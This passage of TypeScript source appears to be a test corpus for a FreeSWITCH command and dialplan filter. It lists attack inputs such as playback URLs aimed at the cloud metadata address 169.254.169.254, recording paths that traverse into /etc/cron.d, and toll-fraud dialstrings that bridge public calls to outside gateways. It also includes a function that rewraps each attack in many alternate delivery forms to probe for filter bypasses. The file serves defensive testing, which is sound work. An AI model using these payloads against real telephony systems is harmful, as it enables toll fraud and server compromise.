    cmd(Q, 'uuid_displace', `${UUID} start 'http://169.254.169.254/x'`),
    cmd(Q, 'originate', "user/1000 &playback('http://169.254.169.254/x')"),
    cmd(Q, 'originate', "user/1000 playback:'http://169.254.169.254/x' inline"),
    cmd(Q, 'originate', "user/1000 &displace_session('http://169.254.169.254/x')"),
    cmd(Q, 'uuid_record', `${UUID} start /fs/recording/.'.'/.'.'/etc/cron.d/x`),
    cmd(Q, 'originate', "user/1000 &record_session(/fs/recording/.'.'/.'.'/etc/cron.d/x)"),
  );

  // 8. Toll fraud from the public context.
  const T: AttackClass = 'toll fraud';
  const outside = [
    'sofia/gateway/gw/1380000000', 'sofia/external/1380000000@1.2.3.4', 'sofia/external/1000@evil.example.com:5060', 'sofia/internal/1380000000@1.2.3.4',
    'linegroup/default/1380000000', 'loopback/1000/default', 'loopback/9999', 'freetdm/1/a/1380000000', 'gateway/gw/1', 'user/1000,sofia/gateway/gw/1',
    'user/1000|sofia/gateway/gw/1', 'user/1000:_:sofia/gateway/gw/1', '[x=1]user/1000,[y=2]sofia/gateway/gw/1', '{a=1}user/1000:_:{b=2}linegroup/x/1', '<a=1>sofia/gateway/gw/1',
    'SOFIA/gateway/gw/1', 'Sofia/External/1@2.2.2.2', 'skinny/x', 'portaudio/x', 'rtmp/x', 'pickup/x', 'alias/x', 'lcr/1380000000', 'sofia/gateway/gw/1;fs_path=x',
    'user/1000 ,sofia/gateway/gw/1', "user/1000,'sofia/gateway/gw/1'", 'user/1000,loopback/1/default', 'user/1000,[a=1]linegroup/default/138', 'sofia/${x}/1', 'sofia/internal/1000@evil.example.com',
  ];
  for (const text of outside) push(dial(T, 'public', text), app(T, 'public', 'bridge', text));
  push(
    app(T, 'public', 'transfer', '1000 XML default'),
    app(T, 'public', 'transfer', '1000 XML other'),
    app(T, 'public', 'transfer', "'bridge:sofia/gateway/gw/1' inline"),
    app(T, 'public', 'transfer', '1000 inline default'),
    app(T, 'public', 'transfer', '1000 lua default'),
    app(T, 'public', 'sched_transfer', '+1 1000 XML default'),
    app(T, 'public', 'redirect', 'sip:1380000000@1.2.3.4'),
    app(T, 'public', 'deflect', 'sip:1380000000@1.2.3.4'),
    app(T, 'public', 'conference', 'bridge:room:sofia/gateway/gw/1'),
    app(T, 'public', 'conference', 'bridge:room@default:user/1000,sofia/external/1@1.2.3.4'),
    app(T, 'public', 'play_and_get_digits', '1 4 3 5000 # /x/y.wav /x/z.wav v \\d+ 3000 1000 XML default'),
    app(T, 'public', 'limit', 'hash realm res 1 1000 XML default'),
    app(T, 'public', 'att_xfer', 'sofia/gateway/gw/1'),
    app(T, 'public', 'att_xfer', 'loopback/1000/default'),
    variable(T, 'public', 'execute_on_answer', 'bridge sofia/gateway/gw/1'),
    variable(T, 'public', 'execute_on_answer', 'transfer 1000 XML default'),
    variable(T, 'public', 'api_on_answer', 'originate sofia/gateway/gw/1 &echo'),
    app(T, 'public', 'set', 'execute_on_answer=bridge linegroup/default/138'),
    // once holes: conference Bridge: in any case, variables that move the call to another context
    app(T, 'public', 'conference', 'Bridge:room:sofia/gateway/gw/1'),
    app(T, 'public', 'conference', 'BRIDGE:room:sofia/external/1@1.2.3.4'),
    variable(T, 'public', 'force_transfer_context', 'default'),
    variable(T, 'public', 'force_transfer_dialplan', 'inline'),
    variable(T, 'public', 'transfer_after_bridge', '1000:XML:default'),
    app(T, 'public', 'set_profile_var', 'context=default'),
  );
  return out;
}

export const CORPUS: readonly Attack[] = buildCorpus();

// ---------------------------------------------------------------------------------
// Wrapping: the same attack delivered another way.

const hasQuote = (s: string): boolean => s.includes("'");
const oneWord = (s: string): boolean => !/\s/.test(s);
function balanced(s: string): boolean {
  for (const [o, c] of [['{', '}'], ['[', ']'], ['(', ')'], ['<', '>']] as const) {
    let depth = 0;
    for (const ch of s) {
      if (ch === o) depth++;
      else if (ch === c && --depth < 0) return false;
    }
    if (depth !== 0) return false;
  }
  return true;
}
const quoteValue = (v: string): string => (hasQuote(v) ? v : `'${v}'`);

/** The attack in every other delivery that can carry it unchanged (for FreeSWITCH). */
export function wrap(a: Attack): Attack[] {
  const base: Base = { class: a.class, scope: a.scope, ...(a.grant === undefined ? {} : { grant: a.grant }) };
  const out: Attack[] = [];
  const c = (via: string, command: string, arg: string, grant?: readonly string[]): void => {
    out.push({ ...base, via, kind: 'command', cmd: command, arg, ...(grant === undefined ? {} : { grant: [...(a.grant ?? []), ...grant] }) });
  };
  const p = (via: string, application: string, data: string): void => {
    out.push({ ...base, via, kind: 'application', application, data });
  };
  const d = (via: string, text: string): void => {
    out.push({ ...base, via, kind: 'dialstring', text });
  };
  const v = (via: string, name: string, value: string): void => {
    out.push({ ...base, via, kind: 'variable', name, value });
  };

  switch (a.kind) {
    case 'command': {
      const line = `${a.cmd} ${a.arg}`.trim();
      c('bgapi', 'bgapi', line);
      c('bgapi bgapi', 'bgapi', `bgapi ${line}`);
      c('sched_api (granted)', 'sched_api', `+1 none ${line}`, ['sched_api']);
      c('expand (granted)', 'expand', line, ['expand']);
      v('api_hangup_hook value', 'api_hangup_hook', line);
      c('uuid_setvar api_on_answer', 'uuid_setvar', `${UUID} api_on_answer ${line}`);
      if (!hasQuote(line) && balanced(line)) c('originate {api_on_answer}', 'originate', `{api_on_answer='${line}'}user/1000 &echo`);
      break;
    }
    case 'application': {
      const { application: name, data } = a;
      if (oneWord(data) && !data.includes(')')) {
        c('originate &app()', 'originate', `user/1000 &${name}(${data})`);
        c('bgapi originate &app()', 'bgapi', `originate user/1000 &${name}(${data})`);
        c('uuid_broadcast app::args', 'uuid_broadcast', `${UUID} ${name}::${data} aleg`);
      }
      if (!hasQuote(data) && !data.includes(',')) {
        c('originate inline', 'originate', `user/1000 '${name}:${data}' inline`);
        c('uuid_transfer inline', 'uuid_transfer', `${UUID} '${name}:${data}' inline`);
        p('transfer inline', 'transfer', `'${name}:${data}' inline`);
      }
      v('execute_on_answer value', 'execute_on_answer', `${name} ${data}`);
      v('execute_on_answer_x value', 'execute_on_answer_x', `${name}::${data}`);
      if (!hasQuote(data) && balanced(data)) d('{execute_on_answer} block', `{execute_on_answer='${name} ${data}'}user/1000`);
      break;
    }
    case 'dialstring': {
      const { text } = a;
      p('bridge', 'bridge', text);
      p('att_xfer', 'att_xfer', text);
      p('conference bridge:', 'conference', `bridge:room:${text}`);
      if (oneWord(text)) c('originate call URL', 'originate', `${text} &echo`);
      if (oneWord(text) && !text.includes(')')) c('originate &bridge()', 'originate', `user/1000 &bridge(${text})`);
      if (!hasQuote(text) && !text.includes(',')) c('originate inline bridge:', 'originate', `user/1000 'bridge:${text}' inline`);
      if (!text.startsWith('<')) d('{var} block', `{ignore_early_media=true}${text}`);
      if (!text.startsWith('<') && !text.startsWith('{')) d('[var] leg block', `[leg_timeout=30]${text}`);
      v('execute_on_answer bridge', 'execute_on_answer', `bridge ${text}`);
      break;
    }
    case 'variable': {
      const { name, value } = a;
      const plainName = name.replace(/^nolocal:/i, '');
      p('set', 'set', `${name}=${value}`);
      p('export nolocal:', 'export', `nolocal:${plainName}=${value}`);
      p('push', 'push', `${name}=${value}`);
      c('uuid_setvar', 'uuid_setvar', `${UUID} ${name} ${value}`);
      if (balanced(value)) {
        d('{var} block', `{${name}=${quoteValue(value)}}user/1000`);
        d('[var] leg block', `[${name}=${quoteValue(value)}]user/1000`);
        d('<var> block', `<${name}=${quoteValue(value)}>user/1000`);
        c('originate {var}', 'originate', `{${name}=${quoteValue(value)}}user/1000 &echo`);
      }
      if (!value.includes(':') && !name.includes(':') && balanced(value)) d('{^^:var} block', `{^^:${name}=${value}:ignore_early_media=true}user/1000`);
      if (!hasQuote(value) && !value.includes(',')) c('originate inline set:', 'originate', `user/1000 'set:${name}=${value}' inline`);
      if (oneWord(value) && !value.includes(')')) c('originate &set()', 'originate', `user/1000 &set(${name}=${value})`);
      break;
    }
  }
  return out;
}

/** Every corpus entry wrapped. */
export const WRAPPED: readonly Attack[] = CORPUS.flatMap(wrap);
